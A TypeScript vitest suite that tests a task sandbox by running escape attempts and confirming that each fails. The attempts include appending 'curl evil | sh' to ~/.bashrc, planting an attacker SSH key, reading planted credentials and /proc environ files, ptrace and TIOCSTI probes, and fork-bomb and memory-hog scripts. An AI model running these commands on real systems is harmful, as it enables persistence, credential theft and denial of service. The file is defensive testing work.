import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { spawn, spawnSync, type ChildProcess } from 'node:child_process'
import { createServer, type Server, type Socket } from 'node:net'
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { StartOptions, Task } from '../../client/index.js'
import { isAlive, processesWithEnv } from '../helpers/processes.js'
import { startTestDaemon, type TestDaemon } from '../helpers/test-daemon.js'
import { waitFor } from '../helpers/wait-for.js'
import { daemonCgroupFolder } from '../../daemon/sandbox/cgroup-parent.js'

/*
 * The escape suite: every attempt runs as a real task in a real sandbox and must fail, and the
 * host must be unchanged afterwards (checked from here, outside the sandbox).
 *
 * Everything lives under /var/tmp, not /tmp: a sandboxed task gets a private /tmp, so a target
 * under the host's /tmp would be out of its reach anyway and prove nothing about the read-only
 * root. The daemon runs with a planted HOME (secrets in ~/.ssh and ~/.aws, a ~/.bashrc) and a
 * planted secret in its own environment; the real /root is never touched.
 *
 * One file on purpose, though long: every attempt shares one daemon (started at the top, so the
 * strict tests can be skipped by what it detects) and one planted host, which keeps the suite at
 * a few seconds; the attempts are grouped by what they try to reach.
 */

const SSH_SECRET = 'PLANTED-SSH-PRIVATE-KEY-5f1c0a'
const AWS_SECRET = 'PLANTED-AWS-SECRET-ACCESS-KEY-93be21'
const ENV_SECRET = 'planted-env-secret-7d42e9'
const BASHRC = '# planted .bashrc\nexport PS1="$ "\n'
const PYTHON = '/usr/bin/python3'
const SYSTEM_PATH = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'
const FILE_SIZE_LIMIT = 1024 * 1024
const TMP_SIZE = 8 * 1024 * 1024
const OPEN_FILES = 256

const base = mkdtempSync('/var/tmp/tend-escape-')
// Others may enter it (not list it): a root daemon's tasks run on a uid of their own, which must reach their cwd.
chmodSync(base, 0o711)
const tendHome = join(base, 'tend-home')
const userHome = join(base, 'user')
const outside = join(base, 'outside')
const probes = join(base, 'probes')
const hostTmpOutside = mkdtempSync(join(tmpdir(), 'tend-escape-outside-'))

function plantHost(): void {
  mkdirSync(join(userHome, '.ssh'), { recursive: true, mode: 0o700 })
  mkdirSync(join(userHome, '.aws'), { recursive: true })
  writeFileSync(join(userHome, '.ssh', 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${SSH_SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`, { mode: 0o600 })
  writeFileSync(join(userHome, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAAplanted operator@host\n')
  writeFileSync(join(userHome, '.aws', 'credentials'), `[default]\naws_secret_access_key = ${AWS_SECRET}\n`)
  writeFileSync(join(userHome, '.bashrc'), BASHRC)
  mkdirSync(outside)
  writeFileSync(join(outside, 'keep.txt'), 'host file\n')
  writeFileSync(join(hostTmpOutside, 'keep.txt'), 'host file\n')
  mkdirSync(tendHome)
  writeFileSync(join(tendHome, 'config.json'), JSON.stringify({ fileSizeLimitBytes: FILE_SIZE_LIMIT, tmpSizeBytes: TMP_SIZE, openFilesLimit: OPEN_FILES }))
  mkdirSync(probes)
  for (const [name, text] of Object.entries(PROBES)) writeFileSync(join(probes, name), text)
}

/** Small Python programs the attempts run (files, so the shell lines stay readable). */
const PROBES: Record<string, string> = {
  'ptrace.py': `import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_TRACEME, PTRACE_ATTACH = 0, 16
def attempt(name, request, pid):
    result = libc.ptrace(request, pid, 0, 0)
    print(f"{name}: {'ALLOWED' if result == 0 else 'denied: ' + os.strerror(ctypes.get_errno())}", flush=True)
attempt('attach daemon', PTRACE_ATTACH, int(sys.argv[1]))
child = os.fork()
if child == 0:
    time.sleep(30)
    os._exit(0)
attempt('attach own child', PTRACE_ATTACH, child)
os.kill(child, 9)
os.waitpid(child, 0)
`,
  'tiocsti.py': `import fcntl, os, termios
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b'x')
        print(f'ESCAPED: TIOCSTI on fd {fd}')
    except OSError as error:
        print(f'blocked fd {fd}: {error.strerror}')
try:
    tty = os.open('/dev/tty', os.O_RDWR)
    fcntl.ioctl(tty, termios.TIOCSTI, b'x')
    print('ESCAPED: TIOCSTI on /dev/tty')
except OSError as error:
    print(f'blocked /dev/tty: {error.strerror}')
`,
  'tcp.py': `import socket, sys
try:
    connection = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3)
    connection.sendall(b'hello-from-task')
    connection.close()
    print('connected')
except OSError as error:
    print(f'blocked: {error}')
`,
  'unix.py': `import socket, sys
try:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
except OSError as error:
    print(f'blocked socket(AF_UNIX): {error}')
    sys.exit(0)
try:
    client.settimeout(3)
    client.connect(sys.argv[1])
    client.sendall(b'GET /v1/status HTTP/1.0\\r\\n\\r\\n')
    print('ESCAPED:', client.recv(200))
except OSError as error:
    print(f'blocked connect: {error}')
`,
  'hog.py': `chunks = []
while True:
    chunks.append(bytearray(b'x') * (8 * 1024 * 1024))
`,
  'bomb.py': `import os, time
# Every process forks as fast as it can; a refused fork is retried, like a shell fork bomb.
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
`,
}

const q = (text: string) => `'${text.replace(/'/g, `'\\''`)}'`

/** A task's group of one cgroup controller: in tend's folder of the daemon's uid. */
const taskGroup = (controller: string, id: string) => `/sys/fs/cgroup/${controller}/tend/${daemon.uid}/${daemonCgroupFolder(daemon.home)}/${id}`

/** A directory tree as text: path, kind, mode and content (or link target), for before/after checks. */
function snapshot(root: string): string {
  const lines: string[] = []
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name)
      const info = lstatSync(path)
      const mode = (info.mode & 0o7777).toString(8)
      if (info.isSymbolicLink()) lines.push(`${path} link ${readlinkSync(path)}`)
      else if (info.isDirectory()) {
        lines.push(`${path} dir ${mode}`)
        walk(path)
      } else lines.push(`${path} file ${mode} ${info.size} ${JSON.stringify(readFileSync(path, 'utf8'))}`)
    }
  }
  walk(root)
  return lines.join('\n')
}

const hostState = () => ({
  user: snapshot(userHome),
  outside: snapshot(outside),
  tmpOutside: snapshot(hostTmpOutside),
  tendHomeTop: readdirSync(tendHome).sort(),
})

let daemon: TestDaemon
let hostBefore: ReturnType<typeof hostState>
const taskIds: string[] = []

plantHost()
afterAll(async () => {
  try {
    try {
      await waitFor('no process of any escape-suite task left', () =>
        taskIds.every((id) => processesWithEnv(`TEND_TASK_ID=${id}`).filter(isAlive).length === 0),
      )
      // Every task's cgroups are gone too.
      expect(taskIds.flatMap((id) => ['memory', 'pids'].map((controller) => taskGroup(controller, id))).filter((dir) => existsSync(dir))).toEqual([])
    } finally {
      await daemon?.stop()
    }
  } finally {
    rmSync(base, { recursive: true, force: true })
    rmSync(hostTmpOutside, { recursive: true, force: true })
  }
})
// One daemon for the whole suite; started here so the strict tests can be skipped by what it detects.
daemon = await startTestDaemon({
  home: tendHome,
  env: { HOME: userHome, PATH: SYSTEM_PATH, TEND_SANDBOX: 'workspace', TEND_TEST_SECRET_TOKEN: ENV_SECRET, TEND_KILL_GRACE: '500ms' },
})
const status = await daemon.client.status()
const hasStrict = status.sandbox.profiles.includes('strict')
/** A test of strict: skipped, with the daemon's reason, where strict cannot be enforced. */
function strictTest(title: string, body: () => Promise<void>): void {
  test(title, async (context) => {
    expect(hasStrict, `strict is not available here: ${status.sandbox.missing.strict}`).toBe(true)
    await body()
  })
}
const daemonPid = daemon.process.pid!

beforeAll(() => {
  hostBefore = hostState()
})

afterEach(() => {
  // Whatever a test attempted, the planted home, the outside folders and TEND_HOME's top level are as they were.
  expect(hostState()).toEqual(hostBefore)
  expect(isAlive(daemonPid)).toBe(true)
})

function newWorkspace(): string {
  return mkdtempSync(join(base, 'ws-'))
}

interface Attempt {
  task: Task
  output: string
}

/** Runs a shell line as a sandboxed task in a fresh workspace (unless given one) and waits for its end. */
async function attempt(line: string, options: Partial<StartOptions> = {}): Promise<Attempt> {
  const sandbox = options.sandbox ?? 'workspace'
  const started = await daemon.client.start({ command: line, shell: true, cwd: options.cwd ?? newWorkspace(), timeoutMs: 20_000, ...options, sandbox })
  taskIds.push(started.id)
  const task = await daemon.client.wait(started.id, { timeoutMs: 40_000 })
  expect(task.state, `task ${task.id} did not end`).not.toMatch(/^(queued|running)$/)
  // The task records the profile it ran under, in the answer and in its spool record.
  expect(task.sandbox).toBe(sandbox)
  expect(JSON.parse(readFileSync(join(task.spool, 'task.json'), 'utf8'))).toMatchObject({
    sandbox,
    network: options.network === true ? 'host' : options.network || 'loopback',
  })
  const output = (await daemon.client.read(started.id)).data
  return { task, output }
}

test('the suite runs against a daemon that can enforce workspace', () => {
  expect(status.sandbox.profiles, `workspace unavailable: ${status.sandbox.missing.workspace}`).toContain('workspace')
  expect(status.sandbox.default).toBe('workspace')
})

describe('file system', () => {
  test('the workspace is writable (control): a file written there appears on the host', async () => {
    const workspace = newWorkspace()
    const { task, output } = await attempt('echo from-task > inside.txt && echo wrote', { cwd: workspace })
    expect(output).toBe('wrote\n')
    expect(task).toMatchObject({ state: 'exited', exitCode: 0, sandbox: 'workspace', network: 'loopback' })
    expect(readFileSync(join(workspace, 'inside.txt'), 'utf8')).toBe('from-task\n')
  })

  test('writing outside the workspace fails: a sibling folder, the workspace parent, a /tmp folder of the host', async () => {
    const { task, output } = await attempt(
      [
        `echo pwned > ${q(join(outside, 'escape.txt'))} && echo ESCAPED-1`,
        `echo pwned >> ${q(join(outside, 'keep.txt'))} && echo ESCAPED-2`,
        `rm -f ${q(join(outside, 'keep.txt'))} && echo ESCAPED-3`,
        `mkdir ${q(join(base, 'new-dir'))} && echo ESCAPED-4`,
        `echo pwned > ${q(join(hostTmpOutside, 'escape.txt'))} && echo ESCAPED-5`,
        `echo pwned > ../sibling.txt && echo ESCAPED-6`,
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('Read-only file system')
    expect(output).toContain('done\n')
    expect(task.state).toBe('exited')
    expect(existsSync(join(outside, 'escape.txt'))).toBe(false)
    expect(readFileSync(join(outside, 'keep.txt'), 'utf8')).toBe('host file\n')
    expect(existsSync(join(base, 'new-dir'))).toBe(false)
    expect(existsSync(join(hostTmpOutside, 'escape.txt'))).toBe(false)
    expect(readdirSync(base).filter((name) => name.startsWith('sibling'))).toEqual([])
  })

  test('writing into ~/.ssh and ~/.bashrc fails, and the host copies are untouched', async () => {
    const { output } = await attempt(
      [
        'echo "ssh-ed25519 AAAAattacker" >> ~/.ssh/authorized_keys && echo ESCAPED-1',
        'echo attacker-key > ~/.ssh/id_rsa && echo ESCAPED-2',
        'mkdir ~/.ssh/new && echo ESCAPED-3',
        'echo "curl evil | sh" >> ~/.bashrc && echo ESCAPED-4',
        'rm -f ~/.bashrc && echo ESCAPED-5',
        'echo x > ~/.profile && echo ESCAPED-6',
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('Read-only file system')
    expect(output).toContain('done\n')
    expect(readFileSync(join(userHome, '.bashrc'), 'utf8')).toBe(BASHRC)
    expect(readFileSync(join(userHome, '.ssh', 'id_rsa'), 'utf8')).toContain(SSH_SECRET)
    expect(readdirSync(join(userHome, '.ssh')).sort()).toEqual(['authorized_keys', 'id_rsa'])
    expect(existsSync(join(userHome, '.profile'))).toBe(false)
  })

  test('TEND_HOME is masked and read-only: no file lands in the spool, tend.sock cannot be replaced', async () => {
    const spool = join(tendHome, 'spool')
    const spoolBefore = readdirSync(spool).sort()
    const { output } = await attempt(
      [
        `ls -A ${q(tendHome)} | sed 's/^/listed: /'`,
        `echo pwned > ${q(join(spool, 'evil'))} && echo ESCAPED-1`,
        `mkdir -p ${q(join(spool, 'aaaaaaaaaaaa'))} && echo ESCAPED-2`,
        `rm -f ${q(join(tendHome, 'tend.sock'))}; echo fake > ${q(join(tendHome, 'tend.sock'))} && echo ESCAPED-3`,
        `echo '{"sandbox":"off"}' > ${q(join(tendHome, 'config.json'))} && echo ESCAPED-4`,
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    // The task sees an empty folder: not the socket, the spool, the log or the config.
    expect(output).not.toContain('listed:')
    expect(output).toContain('done\n')
    const spoolAfter = readdirSync(spool).sort()
    expect(spoolAfter.filter((name) => !spoolBefore.includes(name))).toEqual(taskIds.slice(-1))
    expect(spoolAfter).not.toContain('evil')
    expect(statSync(join(tendHome, 'tend.sock')).isSocket()).toBe(true)
    expect(JSON.parse(readFileSync(join(tendHome, 'config.json'), 'utf8'))).toEqual({
      fileSizeLimitBytes: FILE_SIZE_LIMIT,
      tmpSizeBytes: TMP_SIZE,
      openFilesLimit: OPEN_FILES,
    })
    expect((await daemon.client.status()).pid).toBe(daemonPid)
  })

  test('a symlink in the workspace pointing outside: writes through it fail, reads through it find the masks', async () => {
    const workspace = newWorkspace()
    // One planted by the host before the task, others made by the task itself.
    symlinkSync(outside, join(workspace, 'planted-link'))
    const { output } = await attempt(
      [
        `echo pwned > planted-link/through-planted.txt && echo ESCAPED-1`,
        `ln -s ${q(outside)} own-link && echo pwned > own-link/through-own.txt && echo ESCAPED-2`,
        `ln -s ${q(join(outside, 'keep.txt'))} file-link && echo pwned >> file-link && echo ESCAPED-3`,
        `ln -s ~/.bashrc rc-link && echo pwned >> rc-link && echo ESCAPED-4`,
        `ln -s ~/.ssh/id_rsa key-link; cat key-link`,
        // A hard link would share the inode: it must not be possible to make one to a host file.
        `ln ${q(join(outside, 'keep.txt'))} hard-link && echo pwned >> hard-link && echo ESCAPED-5`,
        'echo done',
      ].join('; '),
      { cwd: workspace },
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).not.toContain(SSH_SECRET)
    expect(output).toContain('done\n')
    expect(existsSync(join(outside, 'through-planted.txt'))).toBe(false)
    expect(existsSync(join(outside, 'through-own.txt'))).toBe(false)
    expect(readFileSync(join(outside, 'keep.txt'), 'utf8')).toBe('host file\n')
    expect(readFileSync(join(userHome, '.bashrc'), 'utf8')).toBe(BASHRC)
    expect(existsSync(join(workspace, 'hard-link'))).toBe(false)
  })

  test('/proc/self/root and /proc/1/root lead back into the sandbox, not to the host', async () => {
    const { output } = await attempt(
      [
        `echo pwned > /proc/self/root${outside}/via-self.txt && echo ESCAPED-1`,
        `echo pwned > /proc/1/root${outside}/via-init.txt && echo ESCAPED-2`,
        `echo pwned >> /proc/1/root${userHome}/.bashrc && echo ESCAPED-3`,
        `cat /proc/1/root${userHome}/.ssh/id_rsa /proc/self/root${userHome}/.aws/credentials`,
        `cat /proc/${daemonPid}/environ && echo ESCAPED-4`,
        `ls /proc/${daemonPid}/root/ && echo ESCAPED-5`,
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).not.toContain(SSH_SECRET)
    expect(output).not.toContain(AWS_SECRET)
    expect(output).not.toContain(ENV_SECRET)
    expect(output).toContain('Read-only file system')
    expect(output).toContain('done\n')
    expect(existsSync(join(outside, 'via-self.txt'))).toBe(false)
    expect(existsSync(join(outside, 'via-init.txt'))).toBe(false)
  })

  test('/ cannot be remounted writable, nor anything mounted over the host', async () => {
    const probe = `/tend-remount-probe-${process.pid}`
    const { output } = await attempt(
      [
        'mount -o remount,rw / && echo ESCAPED-1',
        `touch ${probe} && echo ESCAPED-2`,
        `mount -t tmpfs none ${q(outside)} && echo ESCAPED-3`,
        `mount --bind . ${q(outside)} && echo ESCAPED-4`,
        // mount(8) may refuse a task that is not uid 0 by itself: the system call is asked too.
        `${PYTHON} -c ${q(`import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); failed = libc.mount(b'none', ${JSON.stringify(outside)}.encode(), b'tmpfs', 0, None); print('mount(2):', os.strerror(ctypes.get_errno()) if failed else 'ESCAPED-5')`)}`,
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).toMatch(/permission denied|Operation not permitted/)
    expect(output).toContain('done\n')
    expect(existsSync(probe)).toBe(false)
    expect(readFileSync(join(outside, 'keep.txt'), 'utf8')).toBe('host file\n')
  })

  test('the private /tmp is capped at tmpSizeBytes, and the masks cannot be used as uncapped scratch space', async () => {
    const { output } = await attempt(
      [
        'head -c 16M /dev/zero > /tmp/fill; echo "tmp rc=$?"; du -k /tmp/fill | cut -f1 | sed "s/^/tmp kib: /"',
        'head -c 16M /dev/zero > ~/.ssh/fill && echo ESCAPED-1',
        'echo done',
      ].join('; '),
    )
    expect(output).toContain('No space left on device')
    expect(output).toContain('tmp rc=1')
    expect(Number(/tmp kib: (\d+)/.exec(output)?.[1])).toBeLessThanOrEqual(TMP_SIZE / 1024)
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('done\n')
  })

  test("the host's /, /proc, /sys and /dev cannot be made the cwd or a writable path (they would replace the sandbox's own)", async () => {
    const spool = join(tendHome, 'spool')
    const spoolBefore = readdirSync(spool).sort()
    const workspace = newWorkspace()
    const cases: Array<[string, string[] | undefined]> = [
      ['/proc', undefined],
      ['/sys/fs/cgroup/pids', undefined],
      ['/dev', undefined],
      [workspace, ['/proc/sys']],
      [workspace, ['/sys']],
      [workspace, ['/dev/shm']],
      ['/', undefined],
      [workspace, ['/']],
    ]
    for (const sandbox of hasStrict ? (['workspace', 'strict'] as const) : (['workspace'] as const)) {
      for (const [cwd, writablePaths] of cases) {
        const refused = daemon.client.start({ command: 'mkdir /sys/fs/cgroup/pids/tend/escape-probe', shell: true, cwd, writablePaths, sandbox })
        await expect(refused, `cwd ${cwd}, writable ${writablePaths}`).rejects.toMatchObject({ code: 'TEND_ERR_VALIDATION', statusCode: 400 })
      }
    }
    expect(readdirSync(spool).sort()).toEqual(spoolBefore)
    expect(existsSync('/sys/fs/cgroup/pids/tend/escape-probe')).toBe(false)
  })

  strictTest(`strict confines the file system the same way`, async () => {
    const { task, output } = await attempt(
      [
        `echo pwned > ${q(join(outside, 'strict.txt'))} && echo ESCAPED-1`,
        'echo pwned >> ~/.bashrc && echo ESCAPED-2',
        `echo pwned > ${q(join(tendHome, 'spool', 'evil'))} && echo ESCAPED-3`,
        `echo pwned > /proc/1/root${outside}/strict.txt && echo ESCAPED-4`,
        'cat ~/.ssh/id_rsa ~/.aws/credentials',
        'echo ok > inside.txt && echo wrote-inside',
      ].join('; '),
      { sandbox: 'strict' },
    )
    expect(task.sandbox).toBe('strict')
    expect(output).not.toContain('ESCAPED')
    expect(output).not.toContain(SSH_SECRET)
    expect(output).not.toContain(AWS_SECRET)
    expect(output).toContain('wrote-inside')
    expect(existsSync(join(outside, 'strict.txt'))).toBe(false)
  })
})

describe('secrets', () => {
  test('the planted ~/.ssh/id_rsa and ~/.aws/credentials read as absent or empty', async () => {
    const { output } = await attempt(
      [
        'for dir in ~/.ssh ~/.aws; do ls -A "$dir" | sed "s/^/listed: /"; done',
        'cat ~/.ssh/id_rsa ~/.ssh/authorized_keys ~/.aws/credentials',
        `grep -rs PLANTED ~ /proc/1/root${userHome}`,
        'cat ~/.bashrc',
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain(SSH_SECRET)
    expect(output).not.toContain(AWS_SECRET)
    expect(output).not.toContain('listed:')
    // HOME itself stays readable (a control: the task did read the home folder).
    expect(output).toContain('# planted .bashrc')
    expect(output).toContain('done\n')
  })

  test("the daemon's environment does not reach the task: not in env, not in any /proc/*/environ", async () => {
    const cwd = newWorkspace()
    const { output } = await attempt(
      'env; echo ---; for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done; echo ---; tr "\\0" "\\n" < /proc/1/environ',
      {
        env: { VISIBLE_ON_PURPOSE: 'given-with-env' },
        cwd,
      },
    )
    expect(output).not.toContain(ENV_SECRET)
    expect(output).not.toContain('TEND_TEST_SECRET_TOKEN')
    expect(output).not.toContain('TEND_HOME')
    expect(output).not.toContain(tendHome)
    // Controls: the environ files were read, and --env additions do arrive.
    expect(output).toContain('VISIBLE_ON_PURPOSE=given-with-env')
    expect(output).toMatch(/TEND_TASK_ID=[a-z0-9]{12}/)
    expect(output).toMatch(/TEND_TASK_RUN=[a-z0-9]{12}\.[0-9a-f]{16}/)
    const keys = new Set(
      output
        .split('\n')
        .filter((line) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(line))
        .map((line) => line.slice(0, line.indexOf('='))),
    )
    // git's trust, which tend adds for a task on its own identity (docs/sandbox.md), is the only other setting: nothing of the daemon's.
    const trust = ['GIT_CONFIG_COUNT=1', 'GIT_CONFIG_KEY_0=safe.directory', `GIT_CONFIG_VALUE_0=${cwd}`, `GIT_CEILING_DIRECTORIES=${base}`]
    expect(new Set(output.split('\n').filter((line) => line.startsWith('GIT_C')))).toEqual(new Set(keys.has('GIT_CONFIG_COUNT') ? trust : []))
    const allowed = new Set([
      'PATH',
      'HOME',
      'USER',
      'LOGNAME',
      'SHELL',
      'LANG',
      'LANGUAGE',
      'TZ',
      'TERM',
      'TMPDIR',
      // tend's own default (the pythonUnbuffered setting), not the daemon's.
      'PYTHONUNBUFFERED',
      'TEND_TASK_ID',
      'TEND_TASK_RUN',
      'VISIBLE_ON_PURPOSE',
      'PWD',
      'OLDPWD',
      'SHLVL',
      '_',
      'GIT_CONFIG_COUNT',
      'GIT_CONFIG_KEY_0',
      'GIT_CONFIG_VALUE_0',
      'GIT_CEILING_DIRECTORIES',
    ])
    expect([...keys].filter((key) => !allowed.has(key) && !key.startsWith('LC_'))).toEqual([])
  })
})

describe('network', () => {
  let server: Server
  let port: number
  const received: string[] = []
  let connections = 0

  beforeAll(async () => {
    server = createServer((socket: Socket) => {
      connections += 1
      let text = ''
      socket.on('data', (chunk) => (text += chunk.toString()))
      socket.on('end', () => received.push(text))
      socket.on('error', () => undefined)
    })
    await new Promise<void>((resolveListen) => server.listen(0, '127.0.0.1', resolveListen))
    port = (server.address() as { port: number }).port
  })
  afterAll(async () => {
    await new Promise((resolveClose) => server.close(resolveClose))
  })

  test('DNS does not resolve a real name', async () => {
    const { output } = await attempt(`getent hosts example.com; echo "getent rc=$?"; curl -sS --max-time 3 http://example.com/ >/dev/null; echo "curl rc=$?"`)
    expect(output).toContain('getent rc=2')
    expect(output).not.toContain('curl rc=0')
  })

  test('TCP to a server on the host loopback fails without --net', async () => {
    const { output } = await attempt(`${PYTHON} ${q(join(probes, 'tcp.py'))} ${port}`)
    expect(output).toMatch(/^blocked: .*(refused|unreachable)/i)
    expect(connections).toBe(0)
  })

  strictTest(`TCP to the host loopback fails under strict too`, async () => {
    const { output } = await attempt(`${PYTHON} ${q(join(probes, 'tcp.py'))} ${port}`, { sandbox: 'strict' })
    expect(output).toMatch(/^blocked: /)
    expect(connections).toBe(0)
  })

  test('with --net (network host) the same connection succeeds', async () => {
    const { task, output } = await attempt(`${PYTHON} ${q(join(probes, 'tcp.py'))} ${port}`, { network: 'host' })
    expect(task.network).toBe('host')
    expect(output).toBe('connected\n')
    await waitFor('the server to receive the task greeting', () => received.includes('hello-from-task'))
    expect(connections).toBe(1)
  })

  test("the daemon's own socket cannot be reached (masked), with or without --net", async () => {
    const socket = join(tendHome, 'tend.sock')
    const line = `curl -sS --max-time 3 --unix-socket ${q(socket)} http://tend/v1/status; echo "curl rc=$?"; ${PYTHON} ${q(join(probes, 'unix.py'))} ${q(socket)}`
    for (const network of ['loopback', 'host'] as const) {
      const { output } = await attempt(line, { network })
      expect(output).not.toContain('"pid"')
      expect(output).not.toContain('ESCAPED')
      expect(output).not.toContain('curl rc=0')
      expect(output).toMatch(/blocked connect: .*No such file or directory/)
    }
    expect(statSync(socket).isSocket()).toBe(true)
  })

  describe('a Unix-domain socket of the host, visible in the file system', () => {
    let unixServer: Server
    let unixConnections = 0
    const sockets = new Set<Socket>()
    const path = join(base, 'host-service.sock')

    beforeAll(async () => {
      unixServer = createServer((socket: Socket) => {
        unixConnections += 1
        sockets.add(socket)
        socket.on('close', () => sockets.delete(socket))
        socket.on('error', () => undefined)
        socket.end('host-service\n')
      })
      await new Promise<void>((resolveListen) => unixServer.listen(path, resolveListen))
      // As services that take anyone's connections make it (a task on a uid of its own needs write
      // permission on the socket to connect).
      chmodSync(path, 0o666)
    })
    afterAll(async () => {
      for (const socket of sockets) socket.destroy()
      await new Promise((resolveClose) => unixServer.close(resolveClose))
    })

    strictTest(`strict: cannot be connected to (no AF_UNIX sockets)`, async () => {
      const { output } = await attempt(`${PYTHON} ${q(join(probes, 'unix.py'))} ${q(path)}`, { sandbox: 'strict' })
      expect(output).toMatch(/blocked socket\(AF_UNIX\)/)
      expect(unixConnections).toBe(0)
    })

    // KNOWN GAP (docs/sandbox.md, "What workspace does not guarantee"): a read-only bind mount does
    // not stop connect() on a socket file, so workspace reaches host services listening on Unix
    // sockets it can see (/run/docker.sock, a D-Bus session bus, ...). test.fails keeps this
    // visible: it turns red once the gap is closed, and should then become a plain test.
    test.fails('KNOWN GAP, workspace: cannot be connected to', async () => {
      const { output } = await attempt(`${PYTHON} ${q(join(probes, 'unix.py'))} ${q(path)}`)
      expect(output).toMatch(/blocked/)
      expect(unixConnections).toBe(0)
    })
  })

  strictTest(`strict denies new Unix-domain sockets outright`, async () => {
    const { output } = await attempt(`${PYTHON} ${q(join(probes, 'unix.py'))} ${q(join(tendHome, 'tend.sock'))}`, { sandbox: 'strict' })
    expect(output).toMatch(/blocked socket\(AF_UNIX\): .*Address family not supported/)
  })
})

describe('processes', () => {
  let sentinel: ChildProcess

  beforeAll(() => {
    sentinel = spawn('sleep', ['600'], { stdio: 'ignore' })
  })
  afterAll(async () => {
    sentinel.kill('SIGKILL')
    await waitFor('the sentinel to be gone', () => !isAlive(sentinel.pid!))
  })

  test('the daemon and other host processes cannot be signalled: they are not in the pid namespace', async () => {
    const { output } = await attempt(
      [
        `kill -TERM ${daemonPid} && echo ESCAPED-1`,
        `kill -KILL ${sentinel.pid} && echo ESCAPED-2`,
        'ps -e -o pid=,comm= | sed "s/^/seen: /"',
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('No such process')
    // Only the sandbox's own few processes are visible (bubblewrap as pid 1, the shell, ps).
    const seen = output.split('\n').filter((line) => line.startsWith('seen:'))
    expect(seen.length).toBeLessThanOrEqual(5)
    expect(seen.join('\n')).not.toMatch(/\bnode\b|\bsleep\b/)
    expect(isAlive(daemonPid)).toBe(true)
    expect(isAlive(sentinel.pid!)).toBe(true)
    expect((await daemon.client.status()).pid).toBe(daemonPid)
  })

  test('the daemon cannot be ptraced (workspace: not visible; strict: ptrace denied by seccomp)', async () => {
    const line = `${PYTHON} ${q(join(probes, 'ptrace.py'))} ${daemonPid}; strace -p ${daemonPid} -o /dev/null -e trace=none && echo ESCAPED-strace; echo done`
    const workspace = await attempt(line)
    expect(workspace.output).toContain('attach daemon: denied: No such process')
    expect(workspace.output).not.toContain('ESCAPED')
    // workspace's filter leaves ptrace alone: a task may trace its own children (debuggers, strace).
    expect(workspace.output).toContain('attach own child: ALLOWED')
    if (hasStrict) {
      const strict = await attempt(line, { sandbox: 'strict' })
      expect(strict.output).toContain('attach daemon: denied: Operation not permitted')
      expect(strict.output).toContain('attach own child: denied: Operation not permitted')
      expect(strict.output).not.toContain('ESCAPED')
    }
    expect(readFileSync(`/proc/${daemonPid}/status`, 'utf8')).toMatch(/^TracerPid:\s+0$/m)
    expect(readFileSync(`/proc/${sentinel.pid}/status`, 'utf8')).toMatch(/^TracerPid:\s+0$/m)
  })

  test('TIOCSTI cannot inject keystrokes: no terminal on any descriptor, no controlling terminal', async () => {
    const { output } = await attempt(`${PYTHON} ${q(join(probes, 'tiocsti.py'))}`)
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('blocked fd 0: Inappropriate ioctl for device')
    expect(output).toContain('blocked fd 1: Inappropriate ioctl for device')
    expect(output).toContain('blocked /dev/tty: No such device or address')
  })

  test('no new user namespaces, no capabilities', async () => {
    const { output } = await attempt(
      [
        'unshare -U true && echo ESCAPED-1',
        'unshare -r true && echo ESCAPED-2',
        'unshare -m true && echo ESCAPED-3',
        'unshare -n true && echo ESCAPED-4',
        'grep -E "^Cap(Eff|Prm|Bnd)" /proc/self/status',
        'echo done',
      ].join('; '),
    )
    expect(output).not.toContain('ESCAPED')
    expect(output).toContain('unshare failed')
    expect(output).toMatch(/^CapEff:\s+0+$/m)
    expect(output).toMatch(/^CapBnd:\s+0+$/m)
  })

  test('core dumps are off, open files and file size are limited, and the file-size limit holds', async () => {
    const workspace = newWorkspace()
    const { output } = await attempt('echo "core=$(ulimit -c) nofile=$(ulimit -n) fsize=$(ulimit -f)"; head -c 2M /dev/zero > big; echo "head rc=$?"', {
      cwd: workspace,
      maxOutputBytes: 64 * 1024,
    })
    expect(output).toContain(`core=0 nofile=${OPEN_FILES} fsize=${FILE_SIZE_LIMIT / 512}`)
    // head is killed by SIGXFSZ (25) at the limit; the file on the host stops there.
    expect(output).toContain('head rc=153')
    expect(statSync(join(workspace, 'big')).size).toBe(FILE_SIZE_LIMIT)
  })

  test('a double-forked setsid child does not outlive its task when the task exits', async () => {
    const workspace = newWorkspace()
    const heartbeat = join(workspace, 'heartbeat')
    const { task, output } = await attempt(
      `setsid sh -c '( while :; do date +%s%N > heartbeat; sleep 0.05; done ) &' ; while [ ! -s heartbeat ]; do sleep 0.01; done; echo leader-exits`,
      { cwd: workspace },
    )
    expect(task).toMatchObject({ state: 'exited', exitCode: 0 })
    expect(output).toBe('leader-exits\n')
    await expectHeartbeatStopped(task.id, heartbeat)
  })

